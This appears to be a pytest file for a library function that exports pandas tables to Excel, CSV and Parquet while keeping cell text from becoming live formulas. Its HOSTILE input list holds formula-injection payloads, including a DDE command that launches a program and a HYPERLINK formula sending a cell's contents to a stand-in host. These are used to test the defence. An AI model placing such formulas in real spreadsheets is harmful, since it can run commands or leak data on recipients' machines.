"""Frames as files for other programs: what stands in them is what stood in the frame, and nothing runs."""

from __future__ import annotations

import re
import shutil
import stat
import subprocess
import sys
from datetime import UTC, datetime
from decimal import Decimal
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st

import imgaudit as ia
from imgaudit.csv_files import would_run
from imgaudit.outputs import table_files

HOSTILE = (
    "=1+1", "+44 1632 960001", "-2+3", "@SUM(A1)", " =1+1", "\t=1+1", "\r=1+1", "\n=1+1", "'=1+1", "\uff1d1+1",
    "\uff0b1", "\uff0d1", "\uff201", '=HYPERLINK("https://x.example/?"&A1,"Click")', "=cmd|'/C calc'!A0",
    '"=1+1"', "#N/A", "_x003D_1+1", "a\r=1+1",
)  # fmt: skip
PLAIN = ("Relay = fun", "Year 4", "1 + 1", "O'Neil", "'tis", "", "日本", "a\nb", 'say "so"', "x;y,z")


def frame() -> pd.DataFrame:
    return pd.DataFrame(
        {
            "caption": ["=1+1", "Relay", None],
            "n": pd.array([2, 2**60, None], dtype="Int64"),
            "share": [0.25, -0.5, None],
            "has_location": pd.array([True, False, None], dtype="boolean"),
            "published_on": pd.to_datetime(["2026-03-05", "2025-12-31", None]),
            "published_at": pd.to_datetime(["2026-03-05T23:30Z", "2025-07-01T00:00Z", None], utc=True),
            "price": [Decimal("1.50"), Decimal("1E+3"), None],
            "channel": pd.Categorical(["@x", "website", None]),
        },
        index=[7, 3, 9],  # as filtering leaves it
    )


def sheet(path: Path) -> list[list[object]]:
    return [[cell.value for cell in row] for row in openpyxl.load_workbook(path).active.iter_rows()]


def test_a_workbook_holds_what_the_frame_held(tmp_path: Path):
    path = ia.write_table(frame(), tmp_path / "new" / "folder" / "items.xlsx")
    assert sheet(path) == [
        ["caption", "n", "share", "has_location", "published_on", "published_at", "price", "channel"],
        ["=1+1", 2, 0.25, True, datetime(2026, 3, 5), datetime(2026, 3, 5, 23, 30), 1.5, "@x"],  # noqa: DTZ001
        ["Relay", str(2**60), -0.5, False, datetime(2025, 12, 31), datetime(2025, 7, 1), 1000, "website"],  # noqa: DTZ001
    ]
    cells = openpyxl.load_workbook(path).active
    assert [cell.data_type for cell in cells[2]] == ["s", "n", "n", "b", "d", "d", "n", "s"]
    assert [cell.number_format for cell in cells[2]][4:6] == ["yyyy-mm-dd", "yyyy-mm-dd h:mm:ss"]


def test_a_csv_and_parquet_hold_it_too(tmp_path: Path):
    text = ia.write_table(frame(), tmp_path / "items.csv").read_bytes()
    assert text.decode("utf-8") == (
        "\ufeffcaption,n,share,has_location,published_on,published_at,price,channel\n"
        "'=1+1,2,0.25,True,2026-03-05,2026-03-05 23:30:00+00:00,1.50,'@x\n"
        "Relay,1152921504606846976,-0.5,False,2025-12-31,2025-07-01 00:00:00+00:00,1E+3,website\n"
        ",,,,,,,\n"
    )
    read = pd.read_parquet(ia.write_table(frame(), tmp_path / "items.parquet"))
    assert read["caption"].tolist()[:2] == ["=1+1", "Relay"]
    assert read["published_at"][0] == datetime(2026, 3, 5, 23, 30, tzinfo=UTC)
    assert read["has_location"].tolist()[:2] == [True, False]


@pytest.mark.parametrize("name", ["t.xlsx", "t.csv"])
def test_no_cell_and_no_heading_is_a_formula(tmp_path: Path, name: str):
    words = [*HOSTILE, *PLAIN]
    hostile = pd.DataFrame({"a": words, "b": pd.Series(words, dtype="object"), "=1+1": pd.Categorical(words)})
    path = ia.write_table(hostile, tmp_path / name)
    if name.endswith("xlsx"):
        cells = [cell for row in openpyxl.load_workbook(path).active.iter_rows() for cell in row]
        assert {cell.data_type for cell in cells if cell.value is not None} == {"s"}
        assert all(cell.quotePrefix for cell in cells if cell.value and would_run(cell.value))
        assert b"<f>" not in path.read_bytes()
    else:
        read = pd.read_csv(path, dtype="str", header=None, keep_default_na=False)
        assert read.shape == (1 + len(words), 3)
        assert not [cell for cell in read.to_numpy().ravel() if re.match(r"\s*[=+@\uff0b\uff0d\uff1d\uff20-]|\s", cell)]


def test_what_starts_a_formula_and_what_does_not():
    assert [text for text in HOSTILE if not would_run(text)] == ['"=1+1"', "#N/A", "_x003D_1+1", "a\r=1+1"]
    assert not any(map(would_run, PLAIN))


@pytest.mark.slow
@pytest.mark.skipif(shutil.which("soffice") is None, reason="LibreOffice (soffice) is not installed")
def test_libreoffice_reckons_nothing(tmp_path: Path):
    words = [text for text in (*HOSTILE, *PLAIN) if text.strip() and "\r" not in text]
    ia.write_table(pd.DataFrame({"caption": words, "n": 7}), tmp_path / "t.xlsx")
    profile = f"-env:UserInstallation=file://{tmp_path}/profile"
    as_csv = "csv:Text - txt - csv (StarCalc):44,34,76,1"
    command = ["soffice", profile, "--headless", "--convert-to", as_csv, "--outdir", str(tmp_path), tmp_path / "t.xlsx"]
    subprocess.run(command, check=True, capture_output=True, timeout=120)
    read = pd.read_csv(tmp_path / "t.csv", dtype="str", keep_default_na=False)
    assert read["caption"].tolist() == words
    assert set(read["n"]) == {"7"}


def test_an_index_that_says_something_becomes_columns(tmp_path: Path):
    counts = frame().groupby("has_location").size().to_frame("n")
    assert ia.write_table(counts, tmp_path / "a.csv").read_text("utf-8-sig") == "has_location,n\nFalse,1\nTrue,1\n"
    table = pd.crosstab(pd.Series(["web", "fb"], name="channel"), [pd.Series([1, 2], name="n"), pd.Series(["p", "q"])])
    assert ia.write_table(table, tmp_path / "b.csv").read_text("utf-8-sig").startswith("channel,1 p,2 q\nfb,")
    stats = pd.DataFrame({"x": [1, 3]}).agg(["min", "max"])
    assert ia.write_table(stats, tmp_path / "c.csv").read_text("utf-8-sig") == "index,x\nmin,1\nmax,3\n"


def test_what_a_file_cannot_hold_is_refused_and_what_was_there_stays(tmp_path: Path, monkeypatch: pytest.MonkeyPatch):
    (tmp_path / "t.xlsx").write_bytes(b"before")
    monkeypatch.setattr(table_files, "MOST_ROWS", 3)
    ia.write_table(frame().head(2), tmp_path / "fits.xlsx")
    with pytest.raises(ia.InputError, match=r"t.xlsx: 3 rows of 8 columns.*Name a .csv or .parquet file"):
        ia.write_table(frame(), tmp_path / "t.xlsx")
    monkeypatch.setattr(table_files, "MOST_COLUMNS", 7)
    with pytest.raises(ia.InputError, match="2 rows of 8 columns"):
        ia.write_table(frame().head(2), tmp_path / "t.xlsx")
    with pytest.raises(ia.InputError, match=r"t.parquet: Parquet cannot hold .*Name an .xlsx or .csv"):
        ia.write_table(pd.DataFrame({"a": ["x", 1]}), tmp_path / "t.parquet")
    for name in ("t.txt", "t", "t.xls"):
        with pytest.raises(ia.InputError, match=r"written as .xlsx, .csv or .parquet"):
            ia.write_table(frame(), tmp_path / name)
    with pytest.raises(ia.InputError, match=r"takes a frame, not a column of a frame\. frame: A table of ours"):
        ia.write_table(frame()["n"], tmp_path / "t.csv")
    with pytest.raises(ia.ImgauditError, match=r"t.xlsx cannot be written"):
        ia.write_table(frame().head(2)[["n"]], tmp_path / "t.xlsx" / "t.csv")
    assert sorted(path.name for path in tmp_path.iterdir()) == ["fits.xlsx", "t.xlsx"]
    assert (tmp_path / "t.xlsx").read_bytes() == b"before"
    assert table_files.MOST_ROWS == 3


def test_a_sheet_of_excel_has_so_many_rows():
    assert (table_files.MOST_ROWS, table_files.MOST_COLUMNS) == (2**20, 2**14)


@pytest.mark.skipif(sys.platform == "win32", reason="Windows has no such modes")
@pytest.mark.parametrize("name", ["t.xlsx", "t.csv", "t.parquet"])
def test_a_table_can_be_read_by_its_owner_alone(tmp_path: Path, name: str):
    path = ia.write_table(frame(), tmp_path / "folder" / name)
    assert stat.S_IMODE(path.stat().st_mode) == 0o600
    assert stat.S_IMODE(path.parent.stat().st_mode) == 0o700


def test_a_long_text_says_that_it_was_cut(tmp_path: Path):
    path = ia.write_table(pd.DataFrame({"caption": ["x" * 40_000], "list": [["a", "b"]]}), tmp_path / "t.xlsx")
    (_, (text, listed)) = sheet(path)
    assert str(text).endswith("x… [40,000 characters]")
    assert len(str(text)) == 32_767
    assert listed == "['a', 'b']"


@pytest.mark.slow
@given(st.lists(st.text(max_size=20), min_size=1, max_size=5))
def test_whatever_a_text_says_it_is_text(tmp_path_factory: pytest.TempPathFactory, texts: list[str]):
    path = ia.write_table(
        pd.DataFrame({"a": pd.Series(texts, dtype="object")}), tmp_path_factory.mktemp("t") / "t.xlsx"
    )
    cells = [cell for row in openpyxl.load_workbook(path).active.iter_rows(min_row=2) for cell in row]
    assert {cell.data_type for cell in cells if cell.value is not None} <= {"s"}
